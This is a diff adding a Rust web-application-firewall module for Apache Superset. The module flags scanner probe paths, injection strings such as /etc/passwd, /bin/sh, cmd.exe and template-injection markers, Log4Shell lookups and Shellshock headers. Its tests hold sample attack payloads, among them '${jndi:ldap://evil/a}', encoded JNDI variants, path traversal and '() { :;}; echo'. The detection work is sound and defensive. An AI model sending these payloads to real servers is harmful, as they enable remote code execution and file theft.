@@ -1,0 +1,273 @@
+//! What only an attack says: places that Superset does not have, and texts that make others run code.
+//!
+//! Part of `waf`. A small set on purpose. Paths and fields are looked at, bodies never, and in a query only what no SQL
+//! holds: SQL, Jinja and rison are Superset's daily bread, and whoever looks for them finds honest people.
+
+use std::sync::OnceLock;
+
+use aho_corasick::{AhoCorasick, AhoCorasickKind};
+use http::HeaderMap;
+use http::header::{AUTHORIZATION, COOKIE};
+
+/// First segments that belong to other software, in lower case.
+const PLACES: [&str; 33] = [
+    "_ignition",
+    "actuator",
+    "adminer",
+    "adminer.php",
+    "autodiscover",
+    "boaform",
+    "cgi-bin",
+    "cgi-bin.cgi",
+    "crushftp",
+    "ecp",
+    "geoserver",
+    "global-protect",
+    "goform",
+    "hnap1",
+    "hudson",
+    "jenkins",
+    "jmx-console",
+    "myadmin",
+    "owa",
+    "phpmyadmin",
+    "phpunit",
+    "pma",
+    "server-info",
+    "server-status",
+    "solr",
+    "struts",
+    "telescope",
+    "weblogic",
+    "wordpress",
+    "wp-admin",
+    "wp-content",
+    "wp-includes",
+    "wp-json",
+];
+
+/// Endings of other software's files, and of what is left lying about.
+const ENDINGS: [&str; 15] =
+    ["php", "php5", "php7", "phtml", "asp", "aspx", "ashx", "jsp", "jspx", "jspa", "cgi", "cfm", "env", "bak", "swp"];
+
+/// Whether a path, in its one spelling, is one that no user of Superset asks for. Names of tables and files may stand
+/// below `/api`: nothing is looked for there.
+pub fn is_probe(path: &str) -> bool {
+    let mut segments = path.split('/').skip(1);
+    let first = segments.next().unwrap_or_default();
+    if first == "api" || first == "static" {
+        return false;
+    }
+    if PLACES.iter().any(|place| place.eq_ignore_ascii_case(first)) {
+        return true;
+    }
+    let mut last = first;
+    for segment in std::iter::once(first).chain(segments) {
+        // `.env`, `.git`, `.aws`: RFC 8615 alone begins with a dot and is for clients.
+        if segment.starts_with('.') && segment != ".well-known" {
+            return true;
+        }
+        last = segment;
+    }
+    last.rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.iter().any(|known| known.eq_ignore_ascii_case(ending)))
+}
+
+/// Whether a path, in its one spelling, has what makes others run code or give files away.
+pub fn is_injected(path: &str) -> bool {
+    texts().is_match(path) || has_lookup(path.as_bytes())
+}
+
+/// Whether a query has a lookup of Log4j; nothing else is looked for.
+pub fn is_injected_query(query: &str) -> bool {
+    has_lookup(query.as_bytes())
+}
+
+/// Whether a field has a lookup of Log4j, or begins a function of Bash (CVE-2014-6271). Cookies and credentials are
+/// looked at by nobody: no log has them.
+pub fn is_injected_field(fields: &HeaderMap) -> bool {
+    fields.iter().any(|(name, value)| {
+        let value = value.as_bytes();
+        (has_lookup(value) && name != COOKIE && name != AUTHORIZATION) || value.starts_with(b"() {")
+    })
+}
+
+/// Texts of attacks on paths.
+fn texts() -> &'static AhoCorasick {
+    static TEXTS: OnceLock<AhoCorasick> = OnceLock::new();
+    TEXTS.get_or_init(|| {
+        let texts = [
+            "/etc/passwd",
+            "/etc/shadow",
+            "/proc/self/",
+            "win.ini",
+            "<script",
+            "javascript:",
+            "{{7*7",
+            "${7*7",
+            "%{(#",
+            "t(java.lang",
+            "getruntime(",
+            "freemarker.template",
+            "class.module.classloader",
+            "/bin/sh",
+            "/bin/bash",
+            "cmd.exe",
+            "php://",
+            "allow_url_include",
+        ];
+        #[expect(clippy::expect_used, reason = "a constant; a test builds it")]
+        AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .kind(Some(AhoCorasickKind::DFA))
+            .build(texts)
+            .expect("a few short texts")
+    })
+}
+
+/// Makes the automaton, so that no request has to wait for it.
+pub fn prepare() {
+    texts();
+}
+
+/// How lookups of Log4j begin, and how they are hidden.
+const LOOKUPS: [&[u8]; 9] = [b"jndi:", b"${", b"lower:", b"upper:", b"::-", b"env:", b"sys:", b"java:", b"date:"];
+
+/// Whether there is a `${jndi:`, as it is or escaped once, in any of its disguises (CVE-2021-44228).
+fn has_lookup(bytes: &[u8]) -> bool {
+    let mut rest = bytes;
+    while let Some(at) = memchr::memchr2(b'$', b'%', rest) {
+        rest = rest.get(at..).unwrap_or_default();
+        let mut decoded = Decoded(rest);
+        if decoded.next() == Some(b'$') && decoded.next() == Some(b'{') {
+            let mut head = [0; 8];
+            for (into, byte) in head.iter_mut().zip(decoded) {
+                *into = byte.to_ascii_lowercase();
+            }
+            if LOOKUPS.iter().any(|lookup| head.starts_with(lookup)) {
+                return true;
+            }
+        }
+        rest = rest.get(1..).unwrap_or_default();
+    }
+    false
+}
+
+/// Bytes with their escapes decoded once.
+struct Decoded<'a>(&'a [u8]);
+
+impl Iterator for Decoded<'_> {
+    type Item = u8;
+
+    fn next(&mut self) -> Option<u8> {
+        let digit = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
+        let (byte, rest) = match self.0 {
+            [b'%', high, low, rest @ ..] => match (digit(*high), digit(*low)) {
+                (Some(high), Some(low)) => ((high << 4) | low, rest),
+                _ => (b'%', self.0.get(1..)?),
+            },
+            [byte, rest @ ..] => (*byte, rest),
+            [] => return None,
+        };
+        self.0 = rest;
+        Some(byte)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn places_of_other_software_are_probes() {
+        for path in [
+            "/.env",
+            "/.git/config",
+            "/wp-admin/install.php",
+            "/wp-login.php",
+            "/xmlrpc.php",
+            "/phpMyAdmin/index.php",
+            "/cgi-bin/luci",
+            "/actuator/health",
+            "/superset/.env",
+            "/a/b/shell.JSP",
+            "/backup.bak",
+            "/HNAP1",
+        ] {
+            assert!(is_probe(path), "{path}");
+        }
+    }
+
+    #[test]
+    fn attacks_are_seen_in_paths_queries_and_fields() {
+        assert!(is_injected("/x/${jndi:ldap://evil/a}"));
+        assert!(is_injected("/files/..;/etc/passwd"));
+        assert!(is_injected("/a/<ScRiPt>alert(1)"));
+        for query in ["q=${jndi:ldap://x}", "q=%24%7Bjndi:dns://x%7D", "a=1&b=${${lower:j}ndi:x}", "x=%24%7b%6andi:x"] {
+            assert!(is_injected_query(query), "{query}");
+        }
+        let mut fields = HeaderMap::new();
+        fields.insert("x-api-version", "${JNDI:ldap://evil/a}".parse().unwrap());
+        assert!(is_injected_field(&fields));
+        fields.clear();
+        fields.insert("user-agent", "() { :;}; echo".parse().unwrap());
+        assert!(is_injected_field(&fields));
+    }
+
+    /// What Superset's front end, its users and its documentation send.
+    #[test]
+    fn honest_requests_are_no_attacks() {
+        for target in [
+            "/",
+            "/health",
+            "/login/?next=/superset/welcome/",
+            "/superset/welcome/",
+            "/superset/dashboard/1/?native_filters_key=8Zn2-_xQ&standalone=2",
+            "/superset/dashboard/births/?native_filters=(NATIVE_FILTER-1:(__cache:(label:'x',value:!('a')),id:NATIVE_FILTER-1))",
+            "/superset/dashboard/p/a1B2c3D4e5F/",
+            "/explore/?form_data_key=abc&slice_id=12&dashboard_page_id=x",
+            "/explore/?form_data=%7B%22adhoc_filters%22%3A%5B%7B%22sqlExpression%22%3A%22a%20%3D%20'x'%20OR%201%3D1%22%7D%5D%7D",
+            "/api/v1/chart/?q=(columns:!(id,slice_name),filters:!((col:slice_name,opr:chart_all_text,value:'<script>')),page:0)",
+            "/api/v1/sqllab/?q=(sql:'SELECT%20*%20FROM%20users%20UNION%20SELECT%201;--')",
+            "/api/v1/sqllab/results/?q=(key:'a-b')",
+            "/api/v1/query/updated_since?q=(last_updated_ms:1700000000000)",
+            "/api/v1/database/1/table/..hidden/public/",
+            "/api/v1/database/1/table/passwd.bak/etc/",
+            "/api/v1/database/1/tables/?q=(force:!f,schema_name:'{{%20ds%20}}')",
+            "/api/v1/explore/permalink/x?sql={{ current_username() }} and ${cost} > 1",
+            "/static/assets/vendors.5f1e.entry.js",
+            "/static/appbuilder/css/bootstrap.min.css",
+            "/superset/log/?explode=events&dashboard_id=1",
+            "/lang/de",
+            "/users/userinfo/",
+            "/users/list/?_flt_0_name=jsp",
+            "/embedded/5b2f7c1e-1111-2222-3333-444455556666?uiConfig=5",
+            "/oauth-authorized/google?code=4%2F0A&state=abc&scope=openid%20email",
+            "/superset/sqllab/?dbid=1&sql=select%20'%24%7Bvalue%7D'",
+            "/swagger/v1",
+            "/api/v1/_openapi",
+            "/sqllab/history/",
+            "/databaseview/list/",
+            "/.well-known/acme-challenge/abc",
+            "/favicon.ico",
+            "/robots.txt",
+            "/ws?last_id=1700-0",
+            "/mcp",
+            "/chart/add",
+            "/dashboard/list/?viewMode=card",
+            "/tablemodelview/list/?pageIndex=0&sortColumn=changed_on",
+            "/rowlevelsecurity/list/",
+            "/alert/list/",
+            "/report/list/",
+            "/api/v1/dashboard/1/thumbnail/abc/",
+            "/api/v1/async_event/?last_id=1",
+            "/api/v1/security/csrf_token/",
+            "/superset/explore_json/?form_data=%7B%22slice_id%22%3A1%7D&csv=true",
+        ] {
+            let (path, query) = target.split_once('?').unwrap_or((target, ""));
+            assert!(!is_probe(path), "{target}");
+            assert!(!is_injected(path), "{target}");
+            assert!(!is_injected_query(query), "{target}");
+            assert!(!super::super::spelling::is_deceptive(path.as_bytes()), "{target}");
+        }
+    }
+}
